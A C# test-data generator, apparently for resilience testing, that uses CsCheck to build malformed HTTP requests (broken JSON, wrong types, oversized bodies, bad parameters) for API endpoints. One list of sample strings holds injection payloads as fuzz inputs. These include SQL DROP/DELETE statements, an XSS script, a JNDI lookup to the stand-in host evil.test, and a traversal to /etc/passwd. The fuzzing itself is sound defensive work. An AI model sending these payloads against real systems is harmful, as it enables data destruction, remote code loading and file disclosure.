using System.Globalization;
using System.Text;
using System.Text.Json;
using CsCheck;

namespace Platform.Resilience.BadInput;

/// <summary>One generated request: what is wrong with it, and what is sent.</summary>
public sealed record BadRequest(Endpoint Endpoint, string Path, string Defect, string? ContentType, byte[]? Body, string? IdempotencyKey)
{
    public override string ToString()
    {
        var body = Body is null ? "" : Encoding.UTF8.GetString(Body);
        if (body.Length > 300) body = $"{body[..300]}... ({Body!.Length} bytes)";
        return $"{Endpoint.Method} {Path} [{Defect}] {ContentType} {body}";
    }
}

/// <summary>
/// Generators of requests that are wrong in one definite way - malformed JSON, a wrong type, a missing field, a string too
/// long or empty, control characters or a lone surrogate, a negative, huge or fractional number, the wrong content type,
/// an oversized body - with odd but legal things riding along: extra fields, unusual Unicode, injection-looking text.
/// Path and query parameters get garbage, unknown ids and the same odd strings. JSON is built as text, so the broken
/// forms (lone surrogates, 1e400, truncation) reach the server exactly as a hostile client would send them.
/// </summary>
public static class BadRequests
{
    /// <summary>Legal but unusual text: injection-looking, right-to-left overrides, zero-width joiners, emoji, other scripts.</summary>
    private static readonly Gen<string> Odd = Gen.OneOf(
        Gen.OneOf("'; DROP TABLE users; --", "\" OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.test/a}",
            "../../../etc/passwd", "%00%0d%0a", "Robert'); DELETE FROM ledger_entries;--", "\u202Egnp.exe", "a\u200Db\u200Bc",
            "🏥👩‍⚕️💷", "Ωμέγα Ñandú Łódź", "ﷺ‎ مرحبا", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "null", "NaN", "-1", "A81001", "QOF", "2026-Q2", "nobody@nowhere.test"),
        Gen.String[Gen.Char['!', '~'], 1, 24]);

    private static readonly Gen<string> Garbage = Gen.OneOf(Odd, Gen.Const(new string('9', 400)), Gen.Const(""), Gen.Const("%"));

    /// <summary>Control characters other than tab, line feed and carriage return (which multi-line text may hold).</summary>
    private static readonly Gen<char> ControlCharacter = Gen.OneOf([.. Enumerable.Range(0, 32).Select(c => (char)c).Where(c => c is not ('\t' or '\n' or '\r'))]);

    /// <summary>A string that no field accepts: control characters, a lone surrogate, far too long, or blank.</summary>
    private static readonly Gen<string> BrokenString = Gen.OneOf(
        Gen.String[ControlCharacter, 1, 6].Select(s => Json($"ok{s}ok")),
        Gen.Const("\"\\ud800\""),
        Gen.Const("\"bad \\udfff end\""),
        Gen.Int[300, 600].Select(n => Json(new string('x', n))),
        Gen.Const(Json(new string('y', 100_000))),
        Gen.Const("\"\""),
        Gen.Const("\"   \""));

    private static readonly Gen<string> BrokenInteger = Gen.OneOf(
        "-1", "-2147483649", "2147483648", "99999999999999999999", "1.5", "1e400", "-0.0001", "\"abc\"", "\"12abc\"", "true", "[]", "{}", "\"\"");

    private static readonly Gen<string> BrokenNumber = Gen.OneOf("1e400", "-1e400", "-5", "\"Infinity\"", "\"NaN\"", "\"1,5\"", "true", "[1]", "{}", "0.000000001");

    /// <summary>A JSON value of another type than the field's (an empty array is a legal value of an array field, not a wrong one).</summary>
    private static Gen<string> WrongTypeFor(string type) => Gen.OneOf([.. new (string Type, string Text)[]
        {
            ("integer", "42"), ("boolean", "true"), ("object", "{}"), ("array", "[]"), ("array", "[{}]"),
            ("object", "{\"$type\":\"System.Object\"}"), ("string", "\"text\""),
        }.Where(value => value.Type != type && !(value.Type == "integer" && type == "number")).Select(value => value.Text)]);

    /// <summary>Requests for one endpoint, each with exactly one definite defect.</summary>
    public static Gen<BadRequest> For(Endpoint endpoint) => Gen.Select(PathFor(endpoint), BodyFor(endpoint), IdempotencyKey, (path, body, key) =>
        new BadRequest(endpoint, path.Path, body.Defect ?? path.Defect, body.ContentType, body.Bytes, endpoint.Parameters.Any(p => p.In == "header") ? key : null));

    private static Gen<string> IdempotencyKey => Gen.OneOf(Gen.Guid.Select(g => g.ToString()), Gen.Const(new string('k', 201)), Gen.Const(" "));

    private static Gen<(string Path, string Defect)> PathFor(Endpoint endpoint)
    {
        var gen = Gen.Const((Path: endpoint.Path, Defect: "garbage parameters"));
        foreach (var parameter in endpoint.Parameters.Where(p => p.In == "path"))
        {
            var value = parameter.Format == "uuid" ? Gen.OneOf(Gen.Guid.Select(g => g.ToString()), Garbage) : Garbage;
            gen = gen.SelectMany(current => value.Select(v => (current.Path.Replace($"{{{parameter.Name}}}", Escape(v), StringComparison.Ordinal), current.Defect)));
        }

        var query = endpoint.Parameters.Where(p => p.In == "query").ToList();
        if (query.Count == 0) return gen;
        return gen.SelectMany(current => QueryFor(query).Select(q => ($"{current.Path}?{q}", current.Defect)));
    }

    private static Gen<string> QueryFor(IReadOnlyList<Parameter> parameters)
    {
        var gen = Gen.Const("");
        foreach (var parameter in parameters)
        {
            var value = parameter.Type switch
            {
                "integer" => Gen.OneOf(Gen.OneOf("abc", "1.5", "99999999999", "-1", "0", "", "1e3", "%20"), Gen.Int.Select(i => i.ToString(CultureInfo.InvariantCulture))),
                "boolean" => Gen.OneOf("maybe", "2", "", "TRUE"),
                _ => parameter.Format == "uuid" ? Gen.OneOf(Gen.Guid.Select(g => g.ToString()), Garbage) : Garbage,
            };
            gen = gen.SelectMany(current => value.Select(v => $"{current}{(current.Length == 0 ? "" : "&")}{parameter.Name}={Escape(v)}"));
        }

        return gen;
    }

    private static Gen<(string? Defect, string? ContentType, byte[]? Bytes)> BodyFor(Endpoint endpoint)
    {
        if (endpoint.Body is not { } fields)
        {
            // No body expected: send one anyway, sometimes, in the wrong content type.
            return Gen.OneOf(
                Gen.Const(((string?)null, (string?)null, (byte[]?)null)),
                ObjectText(fields: []).Select(text => ((string?)"unexpected body", (string?)"text/plain", (byte[]?)Encoding.UTF8.GetBytes(text))));
        }

        var valid = ObjectText(fields);
        var defects = new List<(int, IGen<(string?, string?, byte[]?)>)>
        {
            (3, valid.SelectMany(text => Gen.Int[0, Math.Max(0, text.Length - 1)].Select(cut => Json("malformed JSON (truncated)", text[..cut])))),
            (1, Gen.OneOf("{\"a\":", "{,}", "{\"x\" 1}", "{'single': 'quotes'}", "{\"a\":1}}", "\u0000", "{\"a\":1,}").Select(text => Json("malformed JSON", text))),
            (1, Gen.Const(((string?)"invalid UTF-8", (string?)"application/json", (byte[]?)new byte[] { 0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d }))),
            (2, Gen.OneOf("[]", "\"text\"", "42", "true", "[{}]").Select(text => Json("wrong top-level type", text))),
            (2, valid.SelectMany(text => Gen.OneOf("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")
                .Select(type => ((string?)$"wrong content type {type}", (string?)type, (byte[]?)Encoding.UTF8.GetBytes(text))))),
            (1, Gen.Const(((string?)"oversized body (2 MiB)", (string?)"application/json", (byte[]?)Encoding.UTF8.GetBytes($"{{\"x\":\"{new string('z', 2 * 1024 * 1024)}\"}}")))),
        };
        if (fields.Any(f => f.Required)) defects.Add((2, MissingRequired(fields).Select(text => Json("missing required field", text))));
        foreach (var field in fields)
        {
            var broken = field.Type switch
            {
                "integer" => BrokenInteger,
                "number" => BrokenNumber,
                "boolean" => Gen.OneOf("\"yes\"", "2", "\"\""),
                "array" => Gen.OneOf("\"x\"", "{}", "[1, 2]", "[\"\\ud800\"]"),
                _ => BrokenString,
            };
            defects.Add((2, ObjectText(fields, field.Name, broken).Select(text => Json($"bad {field.Name}", text))));
            defects.Add((1, ObjectText(fields, field.Name, WrongTypeFor(field.Type)).Select(text => Json($"{field.Name} of the wrong type", text))));
            if (field.ItemFields.Count > 0 && field.Type == "array")
            {
                defects.Add((2, ItemWithDefect(fields, field).Select(text => Json($"bad item in {field.Name}", text))));
            }
        }

        return Gen.Frequency([.. defects]);
    }

    /// <summary>A JSON object for the fields, every value plausible or odd, plus up to two extra fields; one field may be replaced.</summary>
    private static Gen<string> ObjectText(IReadOnlyList<BodyField> fields, string? replace = null, Gen<string>? with = null)
    {
        var gen = Gen.Const("");
        foreach (var field in fields)
        {
            var value = field.Name == replace ? with! : ValueText(field);
            gen = gen.SelectMany(current => value.Select(v => $"{current}{(current.Length == 0 ? "" : ",")}{Json(field.Name)}:{v}"));
        }

        return gen.SelectMany(current => Gen.Int[0, 2].SelectMany(extra => Odd.Array[extra].Select(names =>
            "{" + string.Join(",", new[] { current }.Where(c => c.Length > 0).Concat(names.Select((n, i) => $"{Json($"extra{i}{n}")}:{Json(n)}"))) + "}")));
    }

    private static Gen<string> MissingRequired(IReadOnlyList<BodyField> fields) =>
        Gen.OneOf([.. fields.Where(f => f.Required).Select(f => f.Name)])
            .SelectMany(name => ObjectText([.. fields.Where(f => f.Name != name)]));

    private static Gen<string> ItemWithDefect(IReadOnlyList<BodyField> fields, BodyField array)
    {
        var item = Gen.OneOf([.. array.ItemFields.Select(itemField => ObjectText(array.ItemFields, itemField.Name,
            itemField.Type switch { "integer" => BrokenInteger, "number" => BrokenNumber, "boolean" => Gen.OneOf("\"yes\"", "2"), _ => BrokenString }))]);
        return ObjectText(fields, array.Name, item.Select(text => $"[{text}]"));
    }

    private static Gen<string> ValueText(BodyField field) => field.Type switch
    {
        "integer" => Gen.Int[0, 1000].Select(i => i.ToString(CultureInfo.InvariantCulture)),
        "number" => Gen.Int[0, 400].Select(i => (i / 4m).ToString(CultureInfo.InvariantCulture)),
        "boolean" => Gen.Bool.Select(b => b ? "true" : "false"),
        "array" => field.ItemFields.Count > 0 ? ObjectText(field.ItemFields).Array[0, 2].Select(items => $"[{string.Join(",", items)}]") : Odd.Array[0, 2].Select(items => $"[{string.Join(",", items.Select(Json))}]"),
        "object" => ObjectText(field.ItemFields),
        _ => Odd.Select(Json),
    };

    private static (string?, string?, byte[]?) Json(string defect, string text) => (defect, "application/json", Encoding.UTF8.GetBytes(text));

    private static string Json(string value) => JsonSerializer.Serialize(value);

    private static string Escape(string value) => Uri.EscapeDataString(value);
}
